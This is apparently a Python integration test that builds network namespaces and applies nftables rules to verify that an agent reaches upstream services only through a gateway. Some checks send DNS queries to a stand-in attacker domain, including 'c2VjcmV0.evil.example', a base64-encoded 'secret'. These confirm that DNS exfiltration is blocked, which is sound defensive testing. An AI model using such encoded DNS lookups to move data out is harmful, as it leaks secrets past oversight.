"""The gateway as the only road, in network namespaces of this test's own, by the rule sets that `deploy/network` ships.

Five machines around a router: an agent, the gateway, an upstream, the agents' resolver, and the world outside. First
everything reaches everything, so that what is closed later was open before.
"""

import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from gateway import READER, SUPPORT, Gateway, binary
from parts import REPOSITORY, Process, Upstream, until

MACHINES = {"agent": 1, "gateway": 2, "upstream": 3, "resolver": 4, "outside": 5}
NETWORK = REPOSITORY / "deploy/network"
PORT = 3101
OPERATIONS = {
    "GET /{page}": {"class": "read", "consequence": 0, "returns": {"confidentiality": "public", "integrity": "trusted"}}
}
# Asks one name of one server over UDP or TCP, and exits with 0 only if an answer comes.
ASK = """
import socket, struct, sys
how, server, name = sys.argv[1:]
labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
query = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\\0\\0\\1\\0\\1"
kind = socket.SOCK_DGRAM if how == "udp" else socket.SOCK_STREAM
family = socket.AF_INET6 if ":" in server else socket.AF_INET
with socket.socket(family, kind) as s:
    s.settimeout(2)
    s.connect((server, 53))
    s.sendall(query if how == "udp" else struct.pack(">H", len(query)) + query)
    answer = b""
    while len(answer) < (12 if how == "udp" else 14):
        piece = s.recv(512)
        if not piece:
            sys.exit(1)
        answer += piece
    answer = answer if how == "udp" else answer[2:]
    print(answer[3] & 15, struct.unpack(">H", answer[6:8])[0])
"""


def address(machine: str) -> str:
    """Its IPv4 address."""
    return f"10.77.{MACHINES[machine]}.2"


def address6(machine: str) -> str:
    """Its IPv6 address."""
    return f"fd77:{MACHINES[machine]}::2"


class World:
    """The namespaces, their links, and what runs in them."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        self.tag = f"hp{os.getpid()}"
        self.running: list[Process] = []

    def ns(self, machine: str) -> str:
        """The namespace of a machine."""
        return f"{self.tag}-{machine}"

    def run(self, machine: str, *command: str) -> subprocess.CompletedProcess[str]:
        """Runs a command on a machine."""
        line = ["ip", "netns", "exec", self.ns(machine), *command]
        return subprocess.run(line, capture_output=True, text=True, timeout=60, check=False)

    def must(self, machine: str, *command: str) -> str:
        """Runs a command on a machine that must succeed."""
        done = self.run(machine, *command)
        assert done.returncode == 0, f"{machine}: {' '.join(command)}\n{done.stdout}{done.stderr}"
        return done.stdout

    def serve(self, machine: str, name: str, *command: str) -> Process:
        """Starts what goes on running on a machine."""
        line = ["ip", "netns", "exec", self.ns(machine), *command]
        process = Process.start(name, line, self.directory / f"{name}.log")
        self.running.append(process)
        return process

    def build(self) -> None:
        """A router, and each machine on a link of its own."""
        system("ip", "netns", "add", self.ns("router"))
        self.must("router", "ip", "link", "set", "lo", "up")
        for each in ("net.ipv4.ip_forward=1", "net.ipv6.conf.all.forwarding=1"):
            self.must("router", "sysctl", "-qw", each)
        for machine, number in MACHINES.items():
            system("ip", "netns", "add", self.ns(machine))
            here, there = ("netns", self.ns("router")), ("netns", self.ns(machine))
            system("ip", "link", "add", f"to-{machine}", *here, "type", "veth", "peer", "name", "eth0", *there)
            for where, link, v4, v6 in (
                ("router", f"to-{machine}", f"10.77.{number}.1/24", f"fd77:{number}::1/64"),
                (machine, "eth0", f"10.77.{number}.2/24", f"fd77:{number}::2/64"),
            ):
                self.must(where, "ip", "link", "set", link, "up")
                self.must(where, "ip", "address", "add", v4, "dev", link)
                self.must(where, "ip", "address", "add", v6, "dev", link, "nodad")
            self.must(machine, "ip", "link", "set", "lo", "up")
            self.must(machine, "ip", "route", "add", "default", "via", f"10.77.{number}.1")
            self.must(machine, "ip", "route", "add", "default", "via", f"fd77:{number}::1")
        # `ip netns exec` shows this file to the agent as its /etc/resolv.conf.
        etc = Path("/etc/netns") / self.ns("agent")
        etc.mkdir(parents=True)
        (etc / "resolv.conf").write_text(f"nameserver {address('resolver')}\noptions timeout:1 attempts:1\n")

    def end(self) -> None:
        """Nothing stays."""
        for process in reversed(self.running):
            process.stop()
        for machine in [*MACHINES, "router"]:
            subprocess.run(["ip", "netns", "del", self.ns(machine)], capture_output=True, check=False)
        shutil.rmtree(Path("/etc/netns") / self.ns("agent"), ignore_errors=True)

    def fetch(self, url: str, *more: str) -> int:
        """The status that the agent gets for a URL; 0 when it gets none."""
        done = self.run("agent", "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-m", "5", *more, url)
        return int(done.stdout or 0)

    def ask(self, how: str, server: str, name: str) -> str:
        """What a resolver answers the agent: its code, and how many answers; empty for nothing."""
        done = self.run("agent", sys.executable, "-c", ASK, how, server, name)
        return done.stdout.strip() if done.returncode == 0 else ""

    def seen(self, name: str) -> int:
        """How many requests a web server has served."""
        return (self.directory / f"{name}.log").read_text(encoding="utf-8", errors="replace").count("GET /")


def system(*command: str) -> None:
    """Runs a command of this machine that must succeed."""
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, f"{' '.join(command)}: {done.stderr}"


@pytest.fixture(scope="module")
def world(directory: Path) -> Iterator[World]:
    """Everything built and running, without any rule."""
    missing = [name for name in ("ip", "nft", "dnsmasq", "curl") if not shutil.which(name, path=search())]
    assert not missing, f"not installed: {missing}; integration/setup.sh installs them from Debian"
    os.environ["PATH"] = search()
    assert os.geteuid() == 0, "network namespaces need root"
    world = World(directory)
    try:
        world.build()
        servers(world)
        yield world
    finally:
        world.end()


def search() -> str:
    """Where programs are; those of administrators too."""
    return f"{os.environ['PATH']}:/usr/sbin:/sbin"


def servers(world: World) -> None:
    """The upstream, the outside, both resolvers and the gateway."""
    pages = world.directory / "pages"
    pages.mkdir()
    (pages / "hello").write_text("hello\n", encoding="utf-8")
    page = ("--directory", str(pages))
    world.serve("upstream", "upstream", sys.executable, "-m", "http.server", str(PORT), "--bind", "::", *page)
    world.serve("outside", "outside", sys.executable, "-m", "http.server", "443", "--bind", "::", *page)
    shipped = (NETWORK / "resolver.conf").read_text(encoding="utf-8")
    config = world.directory / "resolver.conf"
    config.write_text(shipped.replace("10.0.2.10", address("gateway")), encoding="utf-8")
    always = ("dnsmasq", "--keep-in-foreground", "--user=root", "--log-facility=-", "--pid-file=")
    world.serve("resolver", "resolver", *always, f"--conf-file={config}")
    world.serve("outside", "rogue", *always, "--no-resolv", "--no-hosts", "--conf-file=/dev/null", "--address=/#/192.0.2.1")

    upstream = Upstream("crm", "http", f"http://{address('upstream')}:{PORT}", world.directory / "none", None, OPERATIONS)
    gateway = Gateway(world.directory / "gateway", [upstream], agents=[SUPPORT, READER], port=8443, health=8481)
    gateway.prepare()
    configuration = gateway.configuration()
    configuration["listeners"][0]["address"] = f"{address('gateway')}:8443"
    gateway.write("holdpoint.yaml", configuration)
    config = gateway.directory / "holdpoint.yaml"
    world.serve("gateway", "gateway", binary(), "serve", "--config", str(config))

    def up() -> bool:
        ended = [process for process in world.running if process.popen.poll() is not None]
        assert not ended, f"{ended[0].name} ended:\n{ended[0].tail()}"
        return (
            world.run("gateway", "curl", "-sf", "-m", "2", "http://127.0.0.1:8481/readyz").returncode == 0
            and world.fetch(f"http://{address('upstream')}:{PORT}/hello") == 200
            and world.fetch(f"http://{address('outside')}:443/hello") == 200
            and world.ask("udp", address("resolver"), "gateway.internal") == "0 1"
            and world.ask("udp", address("outside"), "data.evil.example") == "0 1"
        )

    until("everything to be reached while nothing is closed", up, seconds=60)


def through(world: World) -> int:
    """The agent asks the upstream's page of the gateway, which it finds by the resolver."""
    pki = world.directory / "gateway/pki"
    files = ("--cacert", f"{pki}/example.org.pem", "--cert", f"{pki}/support.pem", "--key", f"{pki}/support-key.pem")
    # The development certificate is for `localhost`; the name that is looked up is the gateway's.
    return world.fetch("https://localhost:8443/crm/hello", *files, "--connect-to", "localhost:8443:gateway.internal:8443")


def test_the_gateway_is_the_only_road(world: World, figure: Callable[[str, object], None]) -> None:
    """By the rules of the router, and by those of the upstream for an agent that no router stands before."""
    web, web6 = f"http://{address('outside')}:443/hello", f"http://[{address6('outside')}]:443/hello"
    tool, tool6 = (f"http://{host}:{PORT}/hello" for host in (address("upstream"), f"[{address6('upstream')}]"))
    ways = {
        "the upstream": lambda: world.fetch(tool),
        "the upstream by IPv6": lambda: world.fetch(tool6),
        "the outside": lambda: world.fetch(web),
        "the outside by IPv6": lambda: world.fetch(web6),
        "a resolver outside": lambda: world.ask("udp", address("outside"), "data.evil.example"),
        "a resolver outside by TCP": lambda: world.ask("tcp", address("outside"), "data.evil.example"),
        "a resolver outside by IPv6": lambda: world.ask("udp", address6("outside"), "data.evil.example"),
    }
    for name, way in ways.items():
        assert way(), f"{name} is not reached even while nothing is closed, so this test shows nothing"
    assert through(world) == 200
    served, strangers = world.seen("upstream"), world.seen("outside")

    rules = ("-D", "AGENTS=to-agent", "-D", f"GATEWAY={address('gateway')}", "-D", f"RESOLVER={address('resolver')}")
    for _ in range(2):  # loading it again replaces it
        world.must("router", "nft", *rules, "-f", str(NETWORK / "agents.nft"))
    assert through(world) == 200, "agent, resolver, gateway, upstream"
    for name, way in ways.items():
        assert not way(), f"{name} is reached around the gateway"
    assert world.fetch(f"http://{address('gateway')}:8481/readyz") == 0, "of the gateway only the agents' port"
    assert world.ask("udp", "10.77.1.1", "gateway.internal") == "", "the router itself serves agents nothing"
    done = world.run("outside", "curl", "-s", "-m", "3", f"http://{address('agent')}:80/")
    assert done.returncode != 0
    assert (world.seen("upstream"), world.seen("outside")) == (served + 1, strangers), "nothing came around"

    # The resolver answers the gateway's name and carries no other.
    assert world.ask("udp", address("resolver"), "gateway.internal") == "0 1"
    assert world.ask("tcp", address("resolver"), "gateway.internal") == "0 1"
    code, answers = world.ask("udp", address("resolver"), "c2VjcmV0.evil.example").split()
    assert (code, answers) != ("0", "1") and answers == "0"

    # Without the router's rules, the upstream still takes only the gateway.
    world.must("router", "nft", "delete", "table", "inet", "holdpoint_agents")
    assert world.fetch(tool) == 200
    closed = ("-D", f"PORT={PORT}", "-D", f"GATEWAY={address('gateway')}", "-f", str(NETWORK / "upstream.nft"))
    world.must("upstream", "nft", *closed)
    served = world.seen("upstream")
    assert (world.fetch(tool), world.fetch(tool6)) == (0, 0)
    assert through(world) == 200
    assert world.seen("upstream") == served + 1
    figure("ways_around_the_gateway_closed", len(ways))
